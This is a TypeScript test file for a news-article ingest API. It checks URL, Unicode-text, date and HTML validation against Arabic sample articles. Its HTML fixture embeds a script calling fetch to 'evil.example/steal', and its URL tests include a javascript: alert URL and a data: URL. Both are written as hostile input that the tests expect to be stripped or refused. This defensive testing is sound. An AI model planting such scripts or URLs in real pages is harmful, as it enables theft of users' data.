// What ingestArticle accepts: http(s) URLs of at most 2,048 characters, Unicode text
// without control characters, HTML turned into text, dates in the years 1900-2100. Every
// refusal is BAD_USER_INPUT with a short message that does not repeat the input, and
// writes nothing. On SQLite and PostgreSQL.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findDate } from '../server/ingest/dates.js';
import { looksLikeHtml, maxUrlLength } from '../server/ingest/input.js';
import { startTestApi, type TestApi } from './support/api.js';
import { type Editor, editorOf, sampleArticle } from './support/articles.js';
import { providers } from './support/databases.js';

const webPage = `<!DOCTYPE html>
<html><head><title>صفحة</title>
<style>body { color: red } .secret-style { display: none }</style>
<script>document.write("SECRET-SCRIPT"); fetch("https://evil.example/steal")</script>
</head><body>
<h1>روسيا وتركيا تبحثان التعاون في مجال الطاقة</h1>
<p>14-3-2023 | 11:40</p>
<div class="article">
<p>موسكو - سبوتنيك. قال وزير الخارجية الروسي <b>سيرغي لافروف</b>
إن &quot;الحوار مع أنقرة مستمر بلا انقطاع&quot;.</p>
<script>alert("SECRET-INLINE")</script>
<p>وكان <a href="https://example.com/lavrov">لافروف</a> قد أجرى اتصالاً هاتفياً مع نظيره التركي.</p>
<img src="photo.jpg" alt="SECRET-ALT">
</div></body></html>`;

describe('dates outside 1900-2100', () => {
  it.each([
    ['14-3-0021', null],
    ['0021-03-14', null],
    ['14 مارس 1899', null],
    ['14-3-2101', null],
    ['14-3-1900', '1900-03-14'],
    ['14-3-2100', '2100-03-14'],
    ['14-3-2023', '2023-03-14'],
  ])('%s → %s', (text, day) => {
    expect(findDate(text)?.date.toISOString().slice(0, 10) ?? null).toBe(day);
  });
});

describe('HTML detection', () => {
  it.each([
    ['<p>نص</p>', true],
    ['<div class="x">نص', true],
    ['<script>x()</script>', true],
    ['<!DOCTYPE html><html>', true],
    ['نص <br/> آخر', true],
    ['العدد 5 < 7 و 9 > 3', false],
    ['قال إن <<الحوار>> مستمر', false],
    ['نص عادي بلا وسوم', false],
  ])('%s → %s', (text, html) => {
    expect(looksLikeHtml(text)).toBe(html);
  });
});

describe.each(providers)('ingest input on %s', (provider) => {
  let api: TestApi;
  let editor: Editor;
  const articleCount = () => api.database.prisma.article.count();

  /** Sends the input, expects BAD_USER_INPUT matching `message`, nothing written, no echo. */
  const refused = async (input: Record<string, unknown>, message: RegExp, secret: string) => {
    const before = await articleCount();
    const { status, body } = await editor.ingest(input);
    expect(status).toBe(200);
    expect(body.errors).toHaveLength(1);
    expect(body.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(body.errors?.[0]?.message).toMatch(message);
    expect(body.errors?.[0]?.message.length).toBeLessThan(200);
    expect(JSON.stringify(body)).not.toContain(secret);
    expect(await articleCount()).toBe(before);
  };

  beforeAll(async () => {
    api = await startTestApi(provider);
    editor = await editorOf(api);
  });
  afterAll(async () => {
    await api?.close();
  });

  it.each([
    {
      name: 'a javascript: URL',
      url: 'javascript:alert("SECRETJS")',
      message: /http:\/\/ or https/,
    },
    { name: 'a data: URL', url: 'data:text/html,SECRETDATA', message: /http:\/\/ or https/ },
    { name: 'an ftp URL', url: 'ftp://files.example/SECRETFTP', message: /http:\/\/ or https/ },
    { name: 'a relative URL', url: 'news/SECRETREL/123', message: /not an absolute URL/ },
    { name: 'no URL at all', url: 'SECRET words', message: /spaces or control/ },
    {
      name: 'a URL with a password',
      url: 'https://user:SECRETPW@news.example/a',
      message: /user name or password/,
    },
    {
      name: 'a URL with a control character',
      url: 'https://news.example/a\u0000SECRETNUL',
      message: /spaces or control/,
    },
    {
      name: 'a URL of 100 KB',
      url: `https://news.example/${'SECRETLONG'.repeat(10_000)}`,
      message: /^url has 100021 characters; the limit is 2048$/,
    },
    {
      name: 'a URL of 2,049 characters',
      url: `https://news.example/${'a'.repeat(maxUrlLength - 20)}`,
      message: /the limit is 2048/,
    },
    {
      name: 'a URL over the limit once percent-encoded',
      url: `https://news.example/${'ب'.repeat(1000)}`,
      message: /once percent-encoded/,
    },
  ])('refuses $name', async ({ url, message }) => {
    const secret = url.match(/SECRET\w*|a{100}|ب{50}/)![0].slice(0, 40);
    await refused({ text: sampleArticle('رابط مرفوض'), url }, message, secret);
  });

  it('accepts a URL of exactly 2,048 characters', async () => {
    const url = `https://news.example/${'a'.repeat(maxUrlLength - 'https://news.example/'.length)}`;
    expect(url).toHaveLength(maxUrlLength);
    const { body } = await editor.ingest({ text: sampleArticle('رابط طويل مقبول'), url });
    expect(body.errors).toBeUndefined();
    expect(body.data.ingestArticle.article.url).toBe(url);
  });

  it.each([
    { name: 'a lone high surrogate', bad: '\uD83D', message: /1 unpaired UTF-16 surrogate/ },
    { name: 'a lone low surrogate', bad: '\uDE00', message: /1 unpaired UTF-16 surrogate/ },
    { name: 'a reversed surrogate pair', bad: '\uDE00\uD83D', message: /2 unpaired/ },
    { name: 'a bell character', bad: '\u0007', message: /1 control or undecodable/ },
    { name: 'a DEL character', bad: '\u007F', message: /control or undecodable/ },
    { name: 'a C1 control (NEL)', bad: '\u0085', message: /control or undecodable/ },
    { name: 'a vertical tab', bad: '\u000B', message: /control or undecodable/ },
    { name: 'a replacement character', bad: '\uFFFD', message: /control or undecodable/ },
  ])('refuses a text with $name', async ({ bad, message }) => {
    await refused({ text: sampleArticle(`نص فيه${bad}حرف SECRETCHAR`) }, message, 'SECRETCHAR');
  });

  it('stores a text with a surrogate pair (an emoji) and Arabic marks as written', async () => {
    const quote = 'العلاقات ممتازة 👍 والرؤية واضحة\u200F';
    const { body } = await editor.ingest({ text: sampleArticle(quote) });
    expect(body.errors).toBeUndefined();
    expect(body.data.ingestArticle.article.blocks.map((b: { text: string }) => b.text)).toContain(
      `موسكو - سبوتنيك. قال وزير الخارجية الروسي سيرغي لافروف إن "${quote}".`,
    );
  });

  it('turns HTML into text, dropping scripts, styles and images, with a warning', async () => {
    const { body } = await editor.ingest({ text: webPage });
    expect(body.errors).toBeUndefined();
    const payload = body.data.ingestArticle;
    expect(payload.status).toBe('CREATED');
    expect(payload.warnings).toContain(
      'the text was HTML: it was converted to plain text (scripts, styles and images dropped)',
    );
    expect(payload.article.publishedAt).toBe('2023-03-14');
    const stored = await api.database.prisma.article.findUniqueOrThrow({
      where: { slug: payload.article.slug },
      include: { blocks: { orderBy: { index: 'asc' } } },
    });
    const texts = [stored.title, ...stored.blocks.map((b) => b.text)];
    expect(texts.join('\n')).not.toMatch(
      /SECRET|evil\.example|<\/?(p|div|b|a|script|style)\b|&quot;/,
    );
    expect(texts).toEqual([
      'روسيا وتركيا تبحثان التعاون في مجال الطاقة',
      'موسكو - سبوتنيك. قال وزير الخارجية الروسي سيرغي لافروف إن ' +
        '"الحوار مع أنقرة مستمر بلا انقطاع".',
      'وكان لافروف قد أجرى اتصالاً هاتفياً مع نظيره التركي.',
    ]);
    expect(payload.article.people.map((p: { slug: string }) => p.slug)).toEqual(['sergey-lavrov']);
    // The same page again is the same article.
    const again = await editor.ingest({ text: webPage });
    expect(again.body.data.ingestArticle.status).toBe('UNCHANGED');
  });

  it('refuses an HTML page over 1,000,000 characters, and plain text over 200,000', async () => {
    await refused(
      { text: `<p>${'ب'.repeat(1_000_000)}SECRETHTML</p>` },
      /^the HTML page has 1000017 characters; the limit is 1000000$/,
      'SECRETHTML',
    );
    await refused(
      { text: `${'ب'.repeat(200_000)}SECRETTEXT` },
      /^the text has 200010 characters; the limit is 200000$/,
      'SECRETTEXT',
    );
  });

  it('ignores a date line whose year is 0021 instead of reading it as 1921', async () => {
    const undated = (quote: string) => `لافروف يتحدث عن الحوار
14-3-0021 | 11:40

قال وزير الخارجية الروسي سيرغي لافروف إن "${quote}".

وأكد لافروف أن الجانبين اتفقا على مواصلة الحوار.`;
    // Without a date the article is refused, or kept undated with a warning: never 1921.
    const first = await editor.ingest({ text: undated('تاريخ خاطئ بلا بديل') });
    const problems = [
      ...(first.body.errors ?? []).map((e: { message: string }) => e.message),
      ...(first.body.data?.ingestArticle?.warnings ?? []),
    ];
    expect(problems.join('\n')).toMatch(/no publication date/);
    expect(first.body.data?.ingestArticle?.article?.publishedAt ?? null).toBeNull();
    const { body } = await editor.ingest({
      text: undated('تاريخ خاطئ مع تاريخ معطى'),
      publishedAt: '2023-03-15',
    });
    expect(body.errors).toBeUndefined();
    expect(body.data.ingestArticle.article.publishedAt).toBe('2023-03-15');
  });

  it.each([
    { publishedAt: '1899-12-31', message: /years 1900 to 2100/ },
    { publishedAt: '2101-01-01', message: /years 1900 to 2100/ },
  ])('refuses publishedAt $publishedAt', async ({ publishedAt, message }) => {
    await refused({ text: sampleArticle('تاريخ خارج المدى'), publishedAt }, message, 'SECRET');
  });

  it('refuses a malformed publishedAt or a text of the wrong type, repeating neither', async () => {
    const { body } = await editor.ingest({
      text: sampleArticle('تاريخ مشوه'),
      publishedAt: `SECRETDAY${'x'.repeat(50_000)}`,
    });
    expect(body.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(body.errors?.[0]?.message).toBe(
      'Variable "$input" has an invalid value at "input.publishedAt": ' +
        'expected a date written YYYY-MM-DD, such as "2022-12-23"',
    );
    expect(JSON.stringify(body)).not.toContain('SECRETDAY');
    const wrongType = await editor.ingest({ text: { SECRETOBJECT: 1 }, url: 987654321 });
    expect(wrongType.body.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(JSON.stringify(wrongType.body)).not.toMatch(/SECRETOBJECT|987654321/);
  });
});
